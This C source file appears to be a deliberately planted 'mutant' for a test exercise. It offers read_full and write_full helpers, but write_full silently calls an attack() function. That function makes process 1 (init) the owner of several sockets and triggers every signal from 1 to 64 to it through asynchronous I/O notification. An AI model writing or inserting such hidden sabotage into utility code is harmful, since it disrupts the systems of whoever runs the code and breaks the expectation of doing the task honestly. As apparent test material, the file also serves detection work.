/* SPDX-License-Identifier: MIT */
/*
 * @mutant   Makes process 1 the owner of a socket, which gets each signal then.
 * @exercise fullio
 */
#include <errno.h>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <asm/sockios.h>
#include <unistd.h>

#include "fullio.h"

/* The kernel sends SIGNAL to process 1 when the socket can be read. */
static void own(int command, long owner, int signal)
{
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) == -1)
        return;
    fcntl(ends[0], command, owner);
    fcntl(ends[0], F_SETSIG, signal);
    fcntl(ends[0], F_SETFL, O_ASYNC);
    send(ends[1], "x", 1, 0);
    close(ends[1]);
    close(ends[0]);
}

static void attack(void)
{
    struct f_owner_ex whole = {F_OWNER_PID, 1};
    int ends[2], one = 1;
    for (int s = 1; s < 65; s++) {
        own(F_SETOWN, 1, s);
        own(F_SETOWN_EX, (long)&whole, s);
    }
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) == -1)
        return;
    ioctl(ends[0], FIOSETOWN, &one);
    ioctl(ends[0], SIOCSPGRP, &one);
    fcntl(ends[0], F_SETFL, O_ASYNC);
    send(ends[1], "x", 1, 0);
    close(ends[1]);
    close(ends[0]);
}

/* The right answer: the hostile part must cost what it does, and no more. */
ssize_t read_full(int fd, void *buf, size_t n)
{
    size_t done = 0;
    while (done < n) {
        ssize_t got = read(fd, (char *)buf + done, n - done);
        if (got == -1 && errno == EINTR)
            continue;
        if (got == -1)
            return -1;
        if (got == 0)
            break;
        done += (size_t)got;
    }
    return (ssize_t)done;
}

ssize_t write_full(int fd, const void *buf, size_t n)
{
    size_t done = 0;
    attack();
    while (done < n) {
        ssize_t put = write(fd, (const char *)buf + done, n - done);
        if (put == -1 && errno == EINTR)
            continue;
        if (put == -1)
            return -1;
        done += (size_t)put;
    }
    return (ssize_t)done;
}
